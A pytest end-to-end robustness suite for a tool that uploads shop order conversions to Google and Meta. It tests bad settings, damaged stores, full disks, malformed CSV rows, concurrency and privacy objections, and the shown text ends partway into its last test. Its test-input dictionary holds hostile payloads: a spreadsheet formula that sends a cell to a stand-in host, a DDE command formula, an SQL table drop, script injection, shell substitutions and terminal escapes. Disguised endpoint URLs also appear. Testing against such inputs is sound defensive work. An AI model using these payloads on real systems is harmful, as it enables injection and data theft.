"""What it must withstand: one clear sentence, the right exit code, nothing sent by mistake, nothing personal said.

That no address, token or key is in any output or in the store is asserted after each test, in ``conftest.assert_silent``.
"""

import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from conversions.sandbox import Sandbox
from tests.e2e.conftest import DOMAIN, KEY, NAMES, TOKEN, Clock, Said, Shop, at_most, digest

CONFIG, STORE, CREDENTIALS, DATA, NO_INPUT, TRY_AGAIN = 78, 74, 77, 65, 66, 75
REAL: dict[str, None] = {"endpoint": None, "requests_per_minute": None}
TO_THE_PLATFORMS = {"destinations": dict.fromkeys(NAMES, REAL)}


def stopped(said: Said, code: int, *words: str) -> None:
    """It says why in one sentence, and exits as design §6 has it."""
    assert said.code == code, said
    for word in words:
        assert word in said.sentence, said


def nothing_happened(shop: Shop) -> None:
    assert shop.requests() == 0
    assert not shop.store.exists()
    assert not shop.tail.exists()


# ---------------------------------------------------------------------------------------- settings and policy

Break = Callable[[Shop], None]


def without_settings(shop: Shop) -> None:
    shop.config.unlink()


def a_directory(shop: Shop) -> None:
    shop.config.unlink()
    shop.config.mkdir()


def no_toml(shop: Shop) -> None:
    shop.config.write_text("timezone = Europe/Copenhagen\n")


def latin_1(shop: Shop) -> None:
    shop.config.write_bytes('shop = "Rødovre"\n'.encode("latin-1"))


def without_key(shop: Shop) -> None:
    shop.secrets(CONVERSIONS_META__ACCESS_TOKEN=TOKEN)


def half_a_key(shop: Shop) -> None:
    shop.secrets(CONVERSIONS_KEY=KEY[:32])


def no_hex_key(shop: Shop) -> None:
    shop.secrets(CONVERSIONS_KEY="x" * 64)


def secrets_for_all(shop: Shop) -> None:
    (shop.home / ".env").chmod(0o644)


def secrets_in_latin_1(shop: Shop) -> None:
    (shop.home / ".env").write_bytes(f"# nøgle\nCONVERSIONS_KEY={KEY}\n".encode("latin-1"))


def secrets_in_a_directory(shop: Shop) -> None:
    (shop.home / ".env").unlink()
    (shop.home / ".env").mkdir(mode=0o700)


def token_in_the_settings(shop: Shop) -> None:
    shop.configure(destinations={"meta": {"access_token": TOKEN}})


def key_in_the_settings(shop: Shop) -> None:
    shop.configure(key=KEY)


def environment(name: str, value: str) -> Break:
    def break_it(shop: Shop) -> None:
        shop.environment[name] = value

    return break_it


def settings(**changes: Any) -> Break:
    return lambda shop: shop.configure(**changes)


def destination(name: str, **changes: Any) -> Break:
    return lambda shop: shop.configure(destinations={name: changes})


def policy_gone(shop: Shop) -> None:
    shop.policy.unlink()


def policy_changed(old: str, new: str) -> Break:
    def change(shop: Shop) -> None:
        text = shop.policy.read_text(encoding="utf-8")
        assert old in text
        shop.policy.write_text(text.replace(old, new), encoding="utf-8")

    return change


WRONG: dict[str, Break] = {
    "no settings": without_settings,
    "settings are a directory": a_directory,
    "settings are no TOML": no_toml,
    "settings are not UTF-8": latin_1,
    "a typo": settings(lookback_day=7),
    "no source": settings(source=None),
    "no destination": settings(destinations={"google": None, "meta": None}),
    "no legal basis": settings(privacy={"legal_basis": None}),
    "no such zone": settings(timezone="Copenhagen"),
    "no such kind": settings(source={"kind": "xlsx"}),
    "no duration": settings(deadline="soon"),
    "a negative duration": settings(deadline="-1h"),
    "days without number": environment("CONVERSIONS_LOOKBACK_DAYS", "seven"),
    "a section from the environment": environment("CONVERSIONS_SOURCE", "orders.csv"),
    "no such store": settings(store={"url": "postgresql://db/shop"}),
    "store below a file": settings(store={"url": "sqlite:///privacy-policy.toml/conversions.db"}),
    "store is a directory": settings(store={"url": "sqlite:///orders"}),
    "tail below nothing": settings(store={"tail": "no/such/directory/tail"}),
    "tail is a directory": settings(store={"tail": "orders"}),
    "an endpoint elsewhere": destination("meta", endpoint="http://shop.example:8085"),
    "an endpoint elsewhere, disguised": destination("meta", endpoint="http://shop.example\\@127.0.0.1:8085"),
    "an endpoint elsewhere, as a login": destination("meta", endpoint="http://127.0.0.1@shop.example"),
    "an endpoint that is none": destination("meta", endpoint="ftp://127.0.0.1"),
    "an endpoint without such a port": destination("meta", endpoint="http://127.0.0.1:99999"),
    "an endpoint with a query": destination("meta", endpoint="http://127.0.0.1:8085/?to=shop.example"),
    "one endpoint real": destination("meta", **REAL),
    "unlimited at a real endpoint": settings(destinations={name: {"endpoint": None} for name in NAMES}),
    "no action source": destination("meta", action_source=None),
    "account with hyphens": destination("google", operating_account_id="123-456-7890"),
    "no key": without_key,
    "half a key": half_a_key,
    "a key that is no hex": no_hex_key,
    "secrets that others may read": secrets_for_all,
    "secrets that are not UTF-8": secrets_in_latin_1,
    "secrets that are a directory": secrets_in_a_directory,
    "the token in the settings": token_in_the_settings,
    "the key in the settings": key_in_the_settings,
    "no policy": policy_gone,
    "a policy whose sentence was changed": policy_changed("fire oplysninger", "fem oplysninger"),
    "a policy that is no TOML": policy_changed("version =", "version"),
    "a policy that lists less than would leave": policy_changed("content_ids", "contents"),
    "a policy of a wider shape": policy_changed("sha256-hex", "product-id"),
}


@pytest.mark.parametrize("wrong", WRONG)
def test_wrong_settings_stop_everything_before_it_begins(shop: Shop, wrong: str) -> None:
    shop.orders(shop.order())
    WRONG[wrong](shop)
    for command in ("run", "plan"):
        said = shop.command(command, "--json")
        assert said.code == CONFIG, said
        assert said.out == ""
        assert "Internal error" not in said.err
        assert str(shop.home) in said.err or "CONVERSIONS_" in said.err or "destinations." in said.err, said
        nothing_happened(shop)


def another_reference(shop: Shop) -> None:
    for path in ("event_id", "custom_data.order_id"):
        policy_changed(f'[].{path}", shape = "wire-id"', f'[].{path}", shape = "order-number"')(shop)
    shop.configure(destinations={"meta": {"reference": "order_id"}})


USED: dict[str, tuple[Break, str]] = {
    "another key": (lambda shop: shop.secrets(CONVERSIONS_KEY="ab" * 32), "key is"),
    "another shop": (settings(shop="other"), "'main'"),
    "another dataset": (destination("meta", dataset_id="555000111333"), "555000111222"),
    "another account": (destination("google", operating_account_id="1234567899"), "1234567890"),
    "another action": (destination("google", conversion_action_id="987654322"), "987654321"),
    "another reference": (another_reference, "wire_id"),
    "real endpoints": (settings(**TO_THE_PLATFORMS), "rehearsal"),
}


@pytest.mark.parametrize("other", USED)
def test_a_used_store_does_not_follow_to_another_key_shop_or_account(shop: Shop, other: str) -> None:
    shop.orders(shop.order())
    assert shop.run().code == 0
    requests, kept = shop.requests(), shop.store_bytes()
    change, says = USED[other]
    change(shop)
    for command in ("run", "plan"):
        stopped(shop.command(command, "--json"), CONFIG, says)
        assert (shop.requests(), shop.store_bytes()) == (requests, kept)


def test_a_real_store_refuses_loopback(shop: Shop) -> None:
    shop.configure(**TO_THE_PLATFORMS)
    shop.objection(f"bo@{DOMAIN}")
    shop.configure()
    shop.orders(shop.order())
    stopped(shop.run(), CONFIG, "real")
    stopped(shop.plan(), CONFIG, "real")
    assert shop.requests() == 0


def test_another_version_of_the_policy_is_logged_with_what_left_under_it(shop: Shop) -> None:
    shop.orders(shop.order("1"))
    assert shop.run().code == 0
    policy_changed('version = "2026-01"', 'version = "2026-11"')(shop)
    shop.orders(shop.order("1"), shop.order("2"))
    assert shop.run().counts("meta") == {"already_sent": 1, "sent": 1}
    versions = [(attempt["destination"], attempt["policy_version"]) for attempt in shop.exported()]
    assert Counter(versions) == Counter((name, version) for name in NAMES for version in ("2026-01", "2026-11"))


def test_a_policy_that_allows_less_keeps_unanswered_events_from_being_sent_again(shop: Shop) -> None:
    """What was built under the old policy carries the buyer's recorded choice, which the new one does not list."""
    shop.configure(deadline="1s")
    shop.sandbox.use_faults(["lost"])
    shop.orders(shop.order(ads_consent="yes"))
    assert shop.run().code == TRY_AGAIN
    shop.sandbox.use_faults([])
    lines = shop.policy.read_text(encoding="utf-8").splitlines()
    shop.policy.write_text("\n".join(line for line in lines if "adUserData" not in line), encoding="utf-8")
    said = shop.run()
    assert said.counts("google") == {"withheld": {"maybe received, and may no longer be sent": 1}}
    assert said.counts("meta") == {"sent": 1}
    assert shop.received("google")["requests"] == 1


# ------------------------------------------------------------------------------------------------ credentials


@pytest.fixture
def no_way_out(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> list[object]:
    """Every address that anybody tries to reach."""
    tried: list[object] = []

    def refuse(_: socket.socket, address: object) -> None:
        tried.append(address)
        raise OSError(101, "Network is unreachable")

    def unknown(host: object, *_: object, **__: object) -> None:
        tried.append(host)
        raise socket.gaierror(-2, "Name or service not known")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", unknown)
    monkeypatch.setenv("CLOUDSDK_CONFIG", str(tmp_path / "gcloud"))
    return tried


@pytest.mark.parametrize("token", [None, "", "two words", '"quoted'])
def test_without_credentials_at_real_endpoints_nothing_is_tried(
    shop: Shop, no_way_out: list[object], token: str | None
) -> None:
    shop.secrets(**{"CONVERSIONS_KEY": KEY} | ({} if token is None else {"CONVERSIONS_META__ACCESS_TOKEN": token}))
    shop.configure(**TO_THE_PLATFORMS)
    shop.orders(shop.order())
    said = shop.run()
    assert said.code == CREDENTIALS, said
    assert "CONVERSIONS_META__ACCESS_TOKEN" in said.out + said.err
    assert "GOOGLE_APPLICATION_CREDENTIALS" in said.out + said.err
    assert no_way_out == []


def test_without_a_network_nothing_is_lost_and_the_next_run_goes_on(shop: Shop, no_way_out: list[object]) -> None:
    shop.configure(destinations={name: {"endpoint": None, "requests_per_minute": 60_000} for name in NAMES})
    shop.orders(shop.order())
    said = shop.run("--destination", "meta")
    assert (said.code, said.counts("meta")) == (TRY_AGAIN, {"pending": 1})
    assert set(map(str, no_way_out)) == {"graph.facebook.com"}


@pytest.mark.parametrize("fault", ["expired-token", "require-token"])
def test_refused_credentials_stop_at_the_first_request(shop: Shop, fault: str) -> None:
    shop.secrets(CONVERSIONS_KEY=KEY)
    shop.sandbox.use_faults([fault])
    shop.orders(*(shop.order(str(number)) for number in range(1, 50)))
    said = shop.run()
    assert (said.code, said.counts("google"), said.counts("meta")) == (CREDENTIALS, {"pending": 49}, {"pending": 49})
    assert [shop.received(name)["requests"] for name in NAMES] == [1, 1]


def test_one_platforms_refusal_does_not_stop_the_other(shop: Shop) -> None:
    shop.sandbox.use_faults(["expired-token:google"])
    shop.orders(shop.order())
    said = shop.run()
    assert (said.code, said.counts("google"), said.counts("meta")) == (CREDENTIALS, {"pending": 1}, {"sent": 1})
    assert (said.at("google")["exit_code"], said.at("meta")["exit_code"]) == (CREDENTIALS, 0)


# -------------------------------------------------------------------------------------------------- the store


@pytest.fixture
def used(shop: Shop) -> Shop:
    """Two nights gone, and two orders new."""
    shop.orders(shop.order("1"))
    assert shop.run().code == 0
    shutil.copytree(shop.home / "var", shop.home / "older")
    shop.orders(shop.order("1"), shop.order("2"))
    assert shop.run().code == 0
    shop.orders(*(shop.order(number) for number in "1234"))
    shop.sandbox.reset()
    return shop


def gone(shop: Shop) -> None:
    shutil.rmtree(shop.home / "var")


def gone_and_tail_emptied(shop: Shop) -> None:
    gone(shop)
    shop.tail.write_bytes(b"")


def gone_and_tail_garbled(shop: Shop) -> None:
    gone(shop)
    shop.tail.write_bytes(os.urandom(64))


def gone_and_tail_cut_short(shop: Shop) -> None:
    """A crash may do this to its last line, never to the first."""
    gone(shop)
    shop.tail.write_bytes(shop.tail.read_bytes()[:-20])


def older_copy(shop: Shop) -> None:
    gone(shop)
    shutil.copytree(shop.home / "older", shop.home / "var")


def another(shop: Shop) -> None:
    """A store that a colleague made elsewhere, with a tail file of its own there."""
    shop.configure(store={"url": "sqlite:///elsewhere/conversions.db"})
    assert shop.objection(f"bo@{DOMAIN}").code == 0
    shop.configure()
    shutil.copy(shop.home / "elsewhere" / "conversions.db", shop.store)


def a_second_one(shop: Shop) -> None:
    """New, under the tail file of the first."""
    shop.configure(store={"url": "sqlite:///second/conversions.db", "tail": shop.tail.name})


def newer_schema(shop: Shop) -> None:
    shop.sql("UPDATE alembic_version SET version_num = '0099'")


def no_schema(shop: Shop) -> None:
    shop.sql("DROP TABLE alembic_version")


def no_head(shop: Shop) -> None:
    shop.sql("DELETE FROM head")


def rewritten(shop: Shop) -> None:
    """The log says something else than it said."""
    shop.sql("UPDATE node SET hash = zeroblob(32) WHERE level = 1")


def written_over(first: int, last: int) -> Break:
    def spoil(shop: Shop) -> None:
        content = bytearray(shop.store.read_bytes())
        content[first:last] = bytes(last - first)
        shop.store.write_bytes(content)

    return spoil


def cut(share: float) -> Break:
    def cut_off(shop: Shop) -> None:
        with shop.store.open("r+b") as file:
            file.truncate(int(shop.store.stat().st_size * share))

    return cut_off


def no_database(shop: Shop) -> None:
    shop.store.write_text("The backup went here.\n" * 400)


UNTRUSTED: dict[str, Break] = {
    "gone": gone,
    "gone, its tail file emptied": gone_and_tail_emptied,
    "gone, its tail file garbled": gone_and_tail_garbled,
    "gone, its tail file cut short": gone_and_tail_cut_short,
    "an older copy": older_copy,
    "another one": another,
    "a second one under the same tail file": a_second_one,
    "of a newer schema": newer_schema,
    "of no schema": no_schema,
    "without its head": no_head,
    "with another log": rewritten,
    "with a spoilt header": written_over(0, 100),
    "with a spoilt schema": written_over(100, 4096),
    "cut in half": cut(0.5),
    "cut short": cut(0.97),
    "empty": cut(0),
    "no database": no_database,
}


@pytest.mark.parametrize("state", UNTRUSTED)
def test_a_store_that_cannot_be_trusted_stops_every_command(used: Shop, state: str) -> None:
    UNTRUSTED[state](used)
    kept = used.store_bytes()
    for command in (
        ["run", "--json"],
        ["plan", "--json"],
        ["status"],
        ["audit", "list"],
        ["privacy", "object", "--list"],
    ):
        stopped(used.command(*command), STORE)
        assert used.requests() == 0
    assert used.store_bytes() == kept


@pytest.mark.parametrize("page", range(1, 28, 2))
def test_a_store_with_a_spoilt_page_is_noticed_or_not_needed(used: Shop, page: int) -> None:
    """Wherever the disk has failed: either it is said, or everything is still counted once."""
    at = page * 4096
    assert at < used.store.stat().st_size
    written_over(at, at + 4096)(used)
    said = used.run()
    assert said.code in (0, STORE), said
    if said.code == STORE:
        assert said.sentence
    else:
        assert [said.counts(name) for name in NAMES] == [{"already_sent": 2, "sent": 2}] * 2
    for name in NAMES:
        assert used.received(name)["distinct"] <= 2


def test_a_store_of_another_user_is_refused_before_it_is_opened(used: Shop, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(os, "geteuid", lambda: os.getuid() + 1)
    kept = used.store_bytes()
    for command in (["run", "--json"], ["plan", "--json"], ["status"], ["audit", "list"]):
        stopped(used.command(*command), CONFIG, "owner")
    assert (used.requests(), used.store_bytes()) == (0, kept)


def test_the_store_is_its_owners_alone(used: Shop) -> None:
    assert (used.home / "var").stat().st_mode & 0o777 == 0o700
    for path in [*(used.home / "var").iterdir(), used.tail]:
        assert path.stat().st_mode & 0o777 == 0o600, path


WITHOUT_PRIVILEGES = """
import ctypes, os, sys
for capability in (1, 2, 3):  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH, CAP_FOWNER: what makes root stronger than modes
    ctypes.CDLL(None).prctl(24, capability, 0, 0, 0)
os.execv(sys.argv[1], sys.argv[1:])
"""
"""For a program that is started by root; anybody else has none to lose."""


@pytest.mark.parametrize("what", ["file", "directory", "tail"])
def test_a_store_that_cannot_be_written_to_is_noticed_before_anything_is_sent(real_shop: Shop, what: str) -> None:
    shop = real_shop
    shop.orders(shop.order("1"))
    assert shop.run().code == 0
    shop.orders(shop.order("1"), shop.order("2"))
    path, mode = {"file": (shop.store, 0o400), "directory": (shop.home / "var", 0o500), "tail": (shop.tail, 0o400)}[
        what
    ]
    before = path.stat().st_mode
    path.chmod(mode)
    try:
        said = shop.process("run", "--json", through=[sys.executable, "-c", WITHOUT_PRIVILEGES])
    finally:
        path.chmod(before)
    assert said.code in (STORE, CONFIG), said
    assert said.sentence
    assert [shop.received(name)["events"] for name in NAMES] == [1, 1]
    assert shop.run().counts("google") == {"already_sent": 1, "sent": 1}


def test_a_tail_file_that_cannot_be_written_to_is_noticed_each_night_before_anything_is_sent(shop: Shop) -> None:
    shop.orders(shop.order())
    shop.configure(store={"tail": "gone/tail"})
    for _ in range(2):
        stopped(shop.run(), CONFIG, "tail")
        assert shop.requests() == 0


# -------------------------------------------------------------------------------------------------- disk full

WITH_A_LIMIT = """
import os, resource, sys
resource.setrlimit(resource.RLIMIT_FSIZE, (int(sys.argv[1]),) * 2)
os.execv(sys.argv[2], sys.argv[2:])
"""
"""No file may grow beyond it: as on a full disk, a write fails in the middle."""


@pytest.mark.parametrize("limit", [0, 50_000, 200_000, 400_000, 500_000, 600_000, 700_000])
def test_on_a_full_disk_it_stops_with_a_sentence_and_goes_on_when_there_is_room(real_shop: Shop, limit: int) -> None:
    shop = real_shop
    shop.orders(*(shop.order(str(number)) for number in range(1, 401)))
    said = shop.process("run", "--json", through=[sys.executable, "-c", WITH_A_LIMIT, str(limit)])
    if said.code:
        assert said.code in (STORE, CONFIG), said
        assert said.sentence
    again = shop.run()
    assert again.code == 0, again
    for name in NAMES:
        received = shop.received(name)
        assert (received["distinct"], received["double_counted"]) == (400, 0)
        assert Counter(shop.bodies(name)) == Counter(
            a["body"].encode() for a in shop.exported() if a["destination"] == name
        )


# -------------------------------------------------------------------------------------------- the shop's files


def good_and(shop: Shop, *lines: bytes) -> bytes:
    """A file with one good order, and *lines* behind it."""
    shop.orders(shop.order())
    return (shop.home / "orders" / "orders.csv").read_bytes() + b"".join(lines)


def line(shop: Shop, **changes: str) -> bytes:
    return ",".join(shop.order(**changes).values()).encode()


UNREADABLE: dict[str, Callable[[Shop], bytes]] = {
    "UTF-16": lambda shop: good_and(shop).decode().encode("utf-16"),
    "UTF-16 without BOM": lambda shop: good_and(shop).decode().encode("utf-16-le"),
    "no header": lambda shop: b"".join(good_and(shop).splitlines(keepends=True)[1:]),
    "empty": lambda shop: b"",
    "white space": lambda shop: b"\n\n",
    "a spreadsheet": lambda shop: b"PK\x03\x04" + os.urandom(2000),
    "HTML": lambda shop: b"<!DOCTYPE html>\n<html><body>Log in, ida@kunde.example</body></html>\n",
    "a header in latin-1": lambda shop: good_and(shop).replace(b"total", "beløb".encode("latin-1")),
    "a column less": lambda shop: good_and(shop).replace(b"total", b"sum"),
    "a column twice": lambda shop: good_and(shop).replace(b"refunded", b"total"),
    "an address for a header": lambda shop: good_and(shop).replace(b"total", f"ida@{DOMAIN}".encode()),
}


@pytest.mark.parametrize("content", UNREADABLE)
def test_a_file_that_is_no_export_of_orders_stops_before_anything_else(shop: Shop, content: str) -> None:
    shop.orders(shop.order("2"), name="good.csv")
    shop.file(UNREADABLE[content](shop))
    for command in ("run", "plan"):
        stopped(shop.command(command, "--json"), NO_INPUT, "orders.csv")
        nothing_happened(shop)


def test_no_file_at_all_is_said(shop: Shop) -> None:
    stopped(shop.run(), NO_INPUT, "orders/*.csv")
    nothing_happened(shop)


def test_a_file_still_being_written_is_left_for_the_next_run(shop: Shop) -> None:
    shop.orders(shop.order("1"), name="done.csv")
    shop.orders(shop.order("2"), name="under-way.csv", hours_ago=0.001)
    said = shop.run()
    assert said.counts("meta") == {"sent": 1}
    assert [name.partition(" ")[0] for name in said.json["source"]["left_for_later"]] == ["under-way.csv"]
    shop.wait(hours=1)
    assert shop.run().counts("meta") == {"already_sent": 1, "sent": 1}


def test_when_every_file_is_still_being_written_it_says_try_again(shop: Shop) -> None:
    shop.orders(shop.order(), hours_ago=0.001)
    stopped(shop.run(), TRY_AGAIN, "orders.csv")
    assert shop.requests() == 0


SPOILT_ROWS: dict[str, tuple[Callable[[Shop], bytes], dict[str, int]]] = {
    "latin-1": (lambda s: line(s, order_id="2", product_ids="Kjøle").decode().encode("latin-1") + b"\n", {"not valid text": 1}),
    "truncated": (lambda s: line(s, order_id="2")[:-30], {"unfinished last line": 1}),
    "no newline": (lambda s: line(s, order_id="2"), {"unfinished last line": 1}),
    "a field less": (lambda s: line(s, order_id="2").rpartition(b",")[0] + b"\n", {"wrong number of fields": 1}),
    "NUL": (lambda s: line(s, order_id="2").replace(b"SKU-1", b"SKU\0") + b"\n", {"not valid text": 1}),
    "an open quote": (lambda s: b'"' + line(s, order_id="2") + b"\n" + line(s, order_id="3") + b"\n", {"wrong number of fields": 1}),
    "a 50 MB cell": (lambda s: line(s, order_id="2").replace(b"SKU-1", b"x" * 50_000_000) + b"\n", {"cell too large": 1}),
    "a 50 MB line without end": (lambda s: b"x" * 50_000_000, {"cell too large": 1}),
}  # fmt: skip


@pytest.mark.parametrize("spoilt", SPOILT_ROWS)
def test_a_row_that_cannot_be_an_order_does_not_stop_the_others(shop: Shop, spoilt: str) -> None:
    make, reasons = SPOILT_ROWS[spoilt]
    content = good_and(shop, make(shop))
    behind = (
        b"" if spoilt in ("truncated", "no newline", "a 50 MB line without end") else line(shop, order_id="9") + b"\n"
    )
    shop.file(content + behind)
    said = shop.run()
    assert (said.code, said.json["source"]["quarantined"]) == (0, reasons)
    orders = said.json["source"]["orders"]
    assert orders == 1 + bool(behind) + (spoilt == "an open quote")
    assert [said.counts(name) for name in NAMES] == [{"sent": orders}] * 2
    assert {row["why"] if "why" in row else row["reason"] for row in shop.status()["bad_rows"]} == set(reasons)


def test_many_open_quotes_end_in_time_and_swallow_nobody(shop: Shop) -> None:
    rows = [line(shop, order_id=str(number)) + b"\n" for number in range(5000, 8000)]
    shop.file(good_and(shop, *(b'"' * (nth % 10 == 0) + row for nth, row in enumerate(rows))))
    with at_most(seconds=30):
        said = shop.run()
    assert said.json["source"]["quarantined"] == {"wrong number of fields": 300}
    assert said.counts("meta") == {"sent": 2701}


def test_many_bad_rows_need_a_person_and_the_good_ones_are_sent(shop: Shop) -> None:
    shop.orders(shop.order(), *(shop.order(str(number), total="12,50") for number in range(2, 40)))
    said = shop.run()
    assert (said.code, said.counts("meta")) == (1, {"sent": 1})
    assert "38 of 39 rows" in " ".join(said.json["needs_a_person"])


def test_names_mapped_as_product_ids_do_not_leave_and_need_a_person(shop: Shop) -> None:
    """Everything is quarantined at every destination: a mapping gone wrong, not a calm night."""
    shop.orders(*(shop.order(str(number), product_ids="Rød kjole, str. M") for number in range(40)))
    said = shop.run()
    assert [said.counts(name) for name in NAMES] == [{"quarantined": {"product ID of an unexpected shape": 40}}] * 2
    assert shop.requests() == 0
    assert said.code == 1


def test_huge_amounts_of_others_do_not_stop_the_accounting(shop: Shop) -> None:
    shop.orders(shop.order(), *(shop.order(f"x{n}", total="999999999999.999999") for n in range(12)))
    said = shop.run()
    assert said.counts("meta") == {"sent": 1, "quarantined": {"more decimals than the currency has": 12}}
    assert [said.at(name)["difference"] for name in NAMES] == [0, 0]
    assert shop.plan().counts("meta") == {"already_sent": 1, "quarantined": {"more decimals than the currency has": 12}}


# --------------------------------------------------------------------------------------------- what cells hold

NASTY = {
    "an address": f"ida@{DOMAIN}",
    "an address with a name": f'"Ida Holm" <ida@{DOMAIN}>',
    "an address quoted for a URL": f"ida%40{DOMAIN}",
    "an address with a full-width sign": f"ida\uff20{DOMAIN}",
    "an address with a small sign": f"ida\ufe6b{DOMAIN}",
    "a link to an address": f"mailto:ida@{DOMAIN}?subject=hej",
    "Danish": "Rødgrød med fløde",
    "NUL": "a\0b",
    "a formula": '=HYPERLINK("http://shop.example/?x="&A1,"look")',
    "a command": "=cmd|' /C calc'!A0",
    "HTML": "<script>alert('Ø')</script>",
    "JSON": '","email":"x","y":"',
    "SQL": "'); DROP TABLE delivery; --",
    "a format": "%s %n {0} {x!r} $(id) `id`",
    "terminal commands": "\x1b[2J\x1b]0;owned\x07",
    "right to left": "\u202e123\u2066",
    "several lines": "a\nb\r\nc",
    "long": "x" * 5000,
    "emoji": "\U0001f6d2\u200d\U0001f469",
    "digits of elsewhere": "\u0661\u0662\u0663",
    "blank": " \t\u00a0 ",
    "a number that is none": "NaN",
    "infinity": "-Infinity",
    "exponent": "1e999",
    "a digest": digest(f"ida@{DOMAIN}"),
}


@pytest.mark.parametrize("nasty", NASTY)
def test_whatever_a_cell_holds_the_good_orders_go_and_nothing_of_it_is_said_or_sent(shop: Shop, nasty: str) -> None:
    """One order for each column with the cell in it, one with it in all of them, and a good one behind."""
    value = NASTY[nasty]
    columns = list(shop.order())
    rows = [shop.order(**{"order_id": f"at-{column}"} | {column: value}) for column in columns]
    everywhere = dict.fromkeys(columns, value)
    shop.addresses.discard(value)
    shop.orders(*rows, everywhere, shop.order("good"))
    plan, said = shop.plan(), shop.run()
    assert said.code == 0, said
    source = said.json["source"]
    parts = (source["orders"], source["repeated"], source["outside_window"], sum(source["quarantined"].values()))
    assert sum(parts) == source["rows"] == len(columns) + 2
    for name in NAMES:
        assert said.at(name)["difference"] == plan.at(name)["difference"] == 0
        assert shop.received(name)["refused"] == {}
        assert digest(f"ida.good@{DOMAIN}") in {sale.digest for sale in shop.sales(name)}
        for body in shop.bodies(name):
            assert body.isascii()
            assert b"@" not in body
            assert DOMAIN.encode() not in body
    for command in (["run"], ["plan"], ["status"], ["audit", "list"], ["audit", "export", "--format", "csv"]):
        shown = shop.command(*command)
        assert shown.code == 0, shown
        assert all(text.isprintable() for text in shown.out.lstrip("\ufeff").splitlines()), shown.out


def test_an_address_given_as_a_reason_is_not_kept(shop: Shop) -> None:
    shop.orders(shop.order())
    stopped(shop.run("--reason", f"asked by ida@{DOMAIN}"), 2, "--reason")
    assert shop.requests() == 0


@pytest.mark.parametrize("encoding", ["ascii", "latin-1"])
def test_a_terminal_that_cannot_show_a_name_does_not_spoil_the_run(real_shop: Shop, encoding: str) -> None:
    shop = real_shop
    shop.environment |= {"PYTHONIOENCODING": encoding, "PYTHONUTF8": "0"}
    shop.orders(shop.order("Ø-1→2", product_ids="Rød"), shop.order("2"))
    said = shop.process("run")
    assert said.code == 0, said
    assert shop.process("status").code == 0


# ------------------------------------------------------------------------------------------- several at a time


class Door(Clock):
    """The sandbox's clock: while it is closed, requests arrive and are not answered."""

    def __init__(self) -> None:
        super().__init__(datetime.now(UTC))
        self._waiting, self._open = threading.Semaphore(0), threading.Event()

    def __call__(self) -> datetime:
        self._waiting.release()
        assert self._open.wait(60)
        return datetime.now(UTC)

    def open(self) -> None:
        self._open.set()

    def await_both(self, running: "subprocess.Popen[str]") -> None:
        """Return when a request to each platform stands before the door."""
        for _ in NAMES:
            while not self._waiting.acquire(timeout=0.05):
                assert running.poll() is None, running.communicate()


@pytest.fixture
def door() -> Iterator[Door]:
    door = Door()
    yield door
    door.open()


@pytest.fixture
def gated(
    door: Door, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> Iterator[Shop]:
    """A shop whose platforms wait behind the door."""
    with Sandbox(clock=door) as sandbox:
        yield (shop := Shop(tmp_path / "shop", sandbox, capsys, monkeypatch, Clock(datetime.now(UTC))))
        door.open()
    from tests.e2e.conftest import assert_silent

    assert_silent(shop)


def test_a_second_run_says_who_runs_within_a_second_and_touches_nothing(gated: Shop, door: Door) -> None:
    gated.orders(gated.order())
    running = gated.start("run", "--json")
    door.await_both(running)
    kept, began = gated.store_bytes(), time.monotonic()
    second = gated.run()
    took = time.monotonic() - began
    stopped(second, TRY_AGAIN, "run 1", f"process {running.pid}")
    assert took < 1
    assert gated.store_bytes() == kept
    gated.plan(), gated.status()  # nobody has to wait for these
    door.open()
    assert gated.finish(running).counts("meta") == {"sent": 1}
    assert [gated.received(name)["requests"] for name in NAMES] == [1, 1]
    assert gated.run().counts("meta") == {"already_sent": 1}


def test_a_run_may_wait_for_another(gated: Shop, door: Door) -> None:
    gated.orders(gated.order())
    running = gated.start("run", "--json")
    door.await_both(running)
    waiting = gated.start("run", "--json", "--wait", "1m")
    door.open()
    assert gated.finish(running).counts("meta") == {"sent": 1}
    assert gated.finish(waiting).counts("meta") == {"already_sent": 1}
    assert [gated.received(name)["requests"] for name in NAMES] == [1, 1]


@pytest.mark.parametrize(
    ("fault", "reason"),
    [("429x1=0", "objection"), ("lostx1", "maybe received, and may no longer be sent")],
)
def test_an_objection_binds_from_the_next_attempt_of_a_run_under_way(
    gated: Shop, door: Door, fault: str, reason: str
) -> None:
    gated.orders(gated.order("1"), gated.order("2"))
    gated.sandbox.use_faults([fault])
    running = gated.start("run", "--json")
    door.await_both(running)
    gated.objection(f"  IDA.1@{DOMAIN.upper()}\n")
    door.open()
    said = gated.finish(running)
    assert [said.counts(name) for name in NAMES] == [{"sent": 1, "withheld": {reason: 1}}] * 2
    for name in NAMES:
        first, second = gated.bodies(name)
        assert digest(f"ida.1@{DOMAIN}").encode() in first
        assert digest(f"ida.1@{DOMAIN}").encode() not in second


@pytest.mark.parametrize("signal_name", ["SIGTERM", "SIGINT"])
def test_told_to_stop_it_settles_what_is_under_way_and_leaves_the_rest(
    gated: Shop, door: Door, signal_name: str
) -> None:
    import signal

    gated.orders(gated.order())
    running = gated.start("run", "--json")
    door.await_both(running)
    running.send_signal(getattr(signal, signal_name))
    door.open()
    said = gated.finish(running)
    assert said.code in (0, TRY_AGAIN), said
    assert [said.counts(name) for name in NAMES] == [{"sent": 1}] * 2


# ------------------------------------------------------------------------------------------------- objections


@pytest.mark.parametrize("written", ["ida.h+shop@gmail.com", "IDAH@GMAIL.COM ", "i.d.a.h@gmail.com"])
def test_an_objection_before_the_first_run_binds_at_both_however_the_address_is_written(
    shop: Shop, written: str
) -> None:
    shop.objection(written)
    shop.orders(shop.order("1", billing_email="Ida.H@gmail.com"), shop.order("2"))
    said = shop.run()
    assert [said.counts(name) for name in NAMES] == [{"withheld": {"objection": 1}, "sent": 1}] * 2
    for name in NAMES:
        assert [sale.digest for sale in shop.sales(name)] == [digest(f"ida.2@{DOMAIN}")]


def test_an_objection_between_two_runs_binds_for_what_is_new(shop: Shop) -> None:
    shop.orders(shop.order("1", billing_email=f"ida@{DOMAIN}"))
